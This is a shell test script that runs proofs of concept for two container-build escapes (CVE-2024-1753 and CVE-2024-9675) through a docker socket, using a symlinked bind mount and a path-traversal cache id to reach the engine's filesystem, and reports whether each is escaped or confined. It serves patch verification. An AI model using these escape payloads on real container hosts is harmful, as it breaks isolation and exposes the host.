#!/bin/sh
# The proofs of concept of CVE-2024-1753 and CVE-2024-9675, as a job would
# send them: `docker build` through the pod's socket.  Both try to read the
# engine's own file system (the sidecar container's) from a RUN step; the
# marker is /usr/bin/podman, which exists there and not in the busybox image.
# Prints MARK lines for test/image/cve.sh; never fails on a refused build.
set -u
docker import busybox.tar podsock.test/busybox:latest >/dev/null || exit 1
echo "MARK engine: $(docker version --format '{{.Server.Version}} {{.Server.APIVersion}}')"
docker version --format '{{range .Server.Components}}{{.Name}} {{.Version}};{{end}}' |
	sed 's/^/MARK components: /'

mkdir -p ctx && echo x >ctx/x
# CVE-2024-1753: a bind mount from another stage whose source is a symlink
# to /; an engine without the fix resolves it on the engine's own root.
cat >ctx/Dockerfile.1753 <<'DF'
FROM podsock.test/busybox AS base
RUN ln -s / /rootdir
FROM podsock.test/busybox
RUN --mount=type=bind,from=base,source=/rootdir,target=/escape \
    if [ -e /escape/usr/bin/podman ]; then echo ESCAPED-1753; else echo CONFINED-1753; fi
DF
docker build --no-cache -f ctx/Dockerfile.1753 ctx >build-1753.log 2>&1
echo "MARK 1753-status: $?"
if grep -qx ESCAPED-1753 build-1753.log; then echo "MARK 1753: escaped"
elif grep -qx CONFINED-1753 build-1753.log; then echo "MARK 1753: confined"
else echo "MARK 1753: refused: $(grep -i -m1 'error' build-1753.log)"; fi
sed 's/^/  1753| /' build-1753.log

# CVE-2024-9675: a cache mount whose id climbs out of the cache directory.
cat >ctx/Dockerfile.9675 <<'DF'
FROM podsock.test/busybox
RUN --mount=type=cache,id=../../../../../../..,target=/escape \
    if [ -e /escape/usr/bin/podman ]; then echo ESCAPED-9675; else echo CONFINED-9675; fi
DF
docker build --no-cache -f ctx/Dockerfile.9675 ctx >build-9675.log 2>&1
echo "MARK 9675-status: $?"
if grep -qx ESCAPED-9675 build-9675.log; then echo "MARK 9675: escaped"
elif grep -qx CONFINED-9675 build-9675.log; then echo "MARK 9675: confined"
else echo "MARK 9675: refused: $(grep -i -m1 'error' build-9675.log)"; fi
sed 's/^/  9675| /' build-9675.log
echo "MARK finished: yes"
